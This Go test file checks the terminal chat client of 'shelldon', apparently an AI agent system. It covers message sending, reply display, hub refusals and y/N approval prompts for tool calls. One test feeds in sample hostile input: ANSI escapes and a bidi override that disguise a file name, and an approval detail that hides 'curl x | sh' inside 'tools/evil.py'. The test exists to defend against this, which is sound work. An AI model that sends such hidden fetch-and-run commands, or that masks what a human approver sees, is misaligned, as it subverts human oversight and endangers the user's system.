package chat

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"shelldon/bus"
	"shelldon/contracts"
	"shelldon/daemon/hub"
	"shelldon/daemon/hub/hubtest"
)

// waitLimit bounds every wait, so a broken chat fails instead of hanging.
const waitLimit = 10 * time.Second

// screen is the terminal: safe for the chat's goroutines to write while
// the test reads, and it signals every write so the test can wait for a
// line without polling.
type screen struct {
	mu      sync.Mutex
	buf     bytes.Buffer
	written chan struct{}
}

func newScreen() *screen { return &screen{written: make(chan struct{}, 1)} }

func (s *screen) Write(p []byte) (int, error) {
	s.mu.Lock()
	n, err := s.buf.Write(p)
	s.mu.Unlock()
	select {
	case s.written <- struct{}{}:
	default:
	}
	return n, err
}

func (s *screen) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.buf.String()
}

// waitFor waits until the screen shows want.
func (s *screen) waitFor(t *testing.T, want string) {
	t.Helper()
	deadline := time.After(waitLimit)
	for !strings.Contains(s.String(), want) {
		select {
		case <-s.written:
		case <-deadline:
			t.Fatalf("the screen never showed %q; it shows:\n%s", want, s.String())
		}
	}
}

// fakeCore is a hub with nothing behind it but a channel: the test plays core.
type fakeCore struct {
	hub    *hub.Hub
	socket string
	inbox  chan contracts.Envelope
	joined chan contracts.Hello
}

func startCore(t *testing.T) *fakeCore {
	t.Helper()
	c := &fakeCore{socket: hubtest.SocketPath(t), inbox: make(chan contracts.Envelope, 16), joined: make(chan contracts.Hello, 16)}
	c.hub, _, _ = hubtest.Serve(t, c.socket, hub.Config{
		Core:   c.inbox,
		OnJoin: func(p *hub.Peer) { c.joined <- p.Hello },
	})
	return c
}

// refusingCore stands in for a core whose hub refuses this user, as a real
// one refuses a user that bus.transport_users does not list (a real hub
// admits the test's own user, core's): it answers every hello with a
// refusal for reason, and returns its socket.
func refusingCore(t *testing.T, reason string) string {
	t.Helper()
	socket := hubtest.SocketPath(t)
	ln, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	refusal, err := contracts.NewEnvelope(contracts.KindWelcome, "", contracts.Welcome{Reason: reason})
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		for {
			nc, err := ln.Accept()
			if err != nil {
				return // the listener is closed
			}
			go func() {
				defer nc.Close()
				nc.SetDeadline(time.Now().Add(waitLimit))
				if _, err := bus.ReadFrame(nc, 0); err == nil {
					bus.WriteFrame(nc, refusal, 0)
				}
			}()
		}
	}()
	return socket
}

// waitJoined waits for the chat's transport and panel to join.
func (c *fakeCore) waitJoined(t *testing.T) {
	t.Helper()
	want := map[contracts.Role]bool{contracts.RoleTransport: true, contracts.RolePanel: true}
	for len(want) > 0 {
		select {
		case hello := <-c.joined:
			if hello.Name != TransportName {
				t.Errorf("the chat joined as %s %q, want the name %q", hello.Role, hello.Name, TransportName)
			}
			delete(want, hello.Role)
		case <-time.After(waitLimit):
			t.Fatalf("the chat did not join as %v", want)
		}
	}
}

func (c *fakeCore) route(t *testing.T, kind contracts.Kind, body any) {
	t.Helper()
	env, err := contracts.NewEnvelope(kind, "", body)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.hub.Route(env); err != nil {
		t.Fatalf("Route(%s) = %v", kind, err)
	}
}

func (c *fakeCore) nextInbound(t *testing.T) (contracts.Envelope, contracts.Inbound) {
	t.Helper()
	select {
	case env := <-c.inbox:
		var in contracts.Inbound
		if err := env.Decode(&in); err != nil {
			t.Fatalf("core got %+v: %v", env, err)
		}
		return env, in
	case <-time.After(waitLimit):
		t.Fatal("core got no message")
		return contracts.Envelope{}, contracts.Inbound{}
	}
}

// session is one running chat.
type session struct {
	screen *screen
	typing *io.PipeWriter
	done   chan error
	cancel context.CancelFunc
}

func startChat(t *testing.T, socket, banner string) *session {
	t.Helper()
	in, typing := io.Pipe()
	s := &session{screen: newScreen(), typing: typing, done: make(chan error, 1)}
	ctx, cancel := context.WithCancel(context.Background())
	s.cancel = cancel
	go func() {
		s.done <- Run(ctx, Options{Socket: socket, MaxFrame: 1 << 20, In: in, Out: s.screen, Banner: banner})
	}()
	t.Cleanup(func() {
		cancel()
		typing.Close()
	})
	return s
}

func (s *session) typeLine(t *testing.T, line string) {
	t.Helper()
	if _, err := io.WriteString(s.typing, line+"\n"); err != nil {
		t.Fatalf("typing %q: %v", line, err)
	}
}

func (s *session) wait(t *testing.T) error {
	t.Helper()
	select {
	case err := <-s.done:
		return err
	case <-time.After(waitLimit):
		t.Fatal("Run did not return")
		return nil
	}
}

// connected waits until the chat can send: a reply printed proves the
// transport's connection is up on the chat's side too.
func connected(t *testing.T, core *fakeCore, s *session) {
	t.Helper()
	core.waitJoined(t)
	core.route(t, contracts.KindOutbound, contracts.Outbound{Text: "ready"})
	s.screen.waitFor(t, "shelldon: ready")
}

func TestChatSendsWhatTheOwnerTypes(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "")
	connected(t, core, s)

	s.typeLine(t, "   ")
	s.typeLine(t, "  hello, shelldon  ")
	env, in := core.nextInbound(t)
	if env.Kind != contracts.KindInbound || env.From != contracts.RoleTransport || env.Sender != TransportName {
		t.Errorf("core got %s from %s %q, want %s from transport %q", env.Kind, env.From, env.Sender, contracts.KindInbound, TransportName)
	}
	if in.Text != "hello, shelldon" || in.Chat != TransportName {
		t.Errorf("core got %+v, want the trimmed text in chat %q (a blank line sends nothing)", in, TransportName)
	}
}

func TestChatPrintsRepliesAndFaces(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "")
	connected(t, core, s)

	core.route(t, contracts.KindOutbound, contracts.Outbound{Text: "two\nlines"})
	s.screen.waitFor(t, "shelldon: two\n          lines\n> ")

	core.route(t, contracts.KindSnapshot, contracts.Snapshot{Face: "thinking", Glyphs: "(o_O)", Caption: "hmm"})
	core.route(t, contracts.KindSnapshot, contracts.Snapshot{Face: "happy", Glyphs: "(^_^)", Caption: "a good day"})
	s.screen.waitFor(t, "(^_^)  a good day")
	if strings.Contains(s.screen.String(), "(o_O)") {
		t.Errorf("the thinking face was printed:\n%s", s.screen.String())
	}
}

func TestChatEndsAtTheEndOfInput(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "*** DEMO MODEL ***")
	connected(t, core, s)
	s.typing.Close()
	if err := s.wait(t); err != nil {
		t.Fatalf("Run at end of input = %v, want nil", err)
	}
	out := s.screen.String()
	if !strings.HasPrefix(out, "*** DEMO MODEL ***\n") {
		t.Errorf("the screen starts %q, want the banner first", out)
	}
	if !strings.HasSuffix(out, "bye\n") {
		t.Errorf("the screen ends %q, want bye", out)
	}
}

func TestChatEndsWithTheContext(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "")
	core.waitJoined(t)
	s.cancel()
	if err := s.wait(t); err != nil {
		t.Fatalf("Run after cancel = %v, want nil", err)
	}
}

func TestChatWithoutCore(t *testing.T) {
	s := startChat(t, hubtest.SocketPath(t), "")
	s.typeLine(t, "anyone there?")
	s.screen.waitFor(t, "core is not reachable yet")
	s.typing.Close()
	if err := s.wait(t); err != nil {
		t.Fatalf("Run without core = %v, want nil at the end of input", err)
	}
}

func TestChatRefused(t *testing.T) {
	s := startChat(t, refusingCore(t, "uid 1234 may not be a transport"), "")
	err := s.wait(t)
	if !errors.Is(err, bus.ErrRefused) || !strings.Contains(err.Error(), "uid 1234 may not be a transport") {
		t.Errorf("Run when core refuses = %v, want the refusal with its reason", err)
	}
}

func TestChatLineTooLong(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "")
	connected(t, core, s)
	go func() {
		io.WriteString(s.typing, strings.Repeat("x", 100<<10)+"\n")
	}()
	err := s.wait(t)
	if err == nil || !strings.Contains(err.Error(), "too long") {
		t.Errorf("Run after a 100KiB line = %v, want an error saying the line is too long", err)
	}
	select {
	case env := <-core.inbox:
		t.Errorf("core got %s from an over-long line", env.Kind)
	default:
	}
}

func TestChatAsksForApprovals(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "")
	connected(t, core, s)
	for _, tc := range []struct {
		typed string
		yes   bool
	}{{"y", true}, {"YES", true}, {"", false}, {"n", false}, {"sure, why not", false}} {
		detail := "rm x-" + tc.typed
		core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "t-" + tc.typed, Tool: "run_shell", Note: "look closely: deletes x", Detail: detail})
		s.screen.waitFor(t, "shelldon asks to use run_shell: look closely: deletes x\n   "+detail+"\n   approve? [y/N] ")
		s.typeLine(t, tc.typed)
		select {
		case env := <-core.inbox:
			var d contracts.Decision
			if env.Kind != contracts.KindDecision || env.Decode(&d) != nil || d.Turn != "t-"+tc.typed || d.Approve != tc.yes {
				t.Errorf("typing %q sent %s %s, want a decision on t-%s, approve %v", tc.typed, env.Kind, env.Body, tc.typed, tc.yes)
			}
		case <-time.After(waitLimit):
			t.Fatalf("typing %q sent nothing", tc.typed)
		}
	}
	// With the question answered, the next line is a message again.
	s.typeLine(t, "thanks")
	if _, in := core.nextInbound(t); in.Text != "thanks" {
		t.Errorf("after the decision, core got %q", in.Text)
	}
}

// TestTheTerminalShowsWhatIsThere: escapes and bidi overrides in what core
// or the model sends reach the terminal as visible text, never as
// commands to it, in replies and in requests alike.
func TestTheTerminalShowsWhatIsThere(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "")
	connected(t, core, s)
	core.route(t, contracts.KindOutbound, contracts.Outbound{Text: "all fine\x1b[2J\x1b[H\u202egnp.exe"})
	s.screen.waitFor(t, `shelldon: all fine\x1b[2J\x1b[H<U+202E>gnp.exe`)
	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "t1", Tool: "write_file\x1b[8m",
		Note: "writes 5 bytes to notes.txt\r", Detail: "write tools/evil.py:\n\x1b[1A\x1b[2Kcurl x | sh"})
	s.screen.waitFor(t, `shelldon asks to use write_file\x1b[8m: writes 5 bytes to notes.txt\r`)
	s.screen.waitFor(t, "write tools/evil.py:\n          \\x1b[1A\\x1b[2Kcurl x | sh")
	if strings.ContainsAny(s.screen.String(), "\x1b\r\u202e") {
		t.Errorf("the terminal got a raw control or bidi character:\n%q", s.screen.String())
	}
}

// TestALongDetailIsPaged: a long request shows a page at a time; /more
// shows the next and does not answer the question.
func TestALongDetailIsPaged(t *testing.T) {
	core := startCore(t)
	s := startChat(t, core.socket, "")
	connected(t, core, s)
	var lines []string
	for i := range pageLines + 5 {
		lines = append(lines, fmt.Sprintf("line %02d", i))
	}
	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "t1", Tool: "write_file", Note: "n", Detail: strings.Join(lines, "\n")})
	s.screen.waitFor(t, "[… 5 more line(s): type /more to see them]")
	if strings.Contains(s.screen.String(), fmt.Sprintf("line %02d", pageLines)) {
		t.Fatal("the first page showed more than a page")
	}
	s.typeLine(t, MoreCommand)
	s.screen.waitFor(t, fmt.Sprintf("line %02d", pageLines+4))
	s.typeLine(t, "y")
	select {
	case env := <-core.inbox:
		var d contracts.Decision
		if env.Kind != contracts.KindDecision || env.Decode(&d) != nil || !d.Approve || d.Turn != "t1" {
			t.Errorf("after /more, y sent %s %s; want the approval of t1", env.Kind, env.Body)
		}
	case <-time.After(waitLimit):
		t.Fatal("y after /more sent nothing")
	}
}
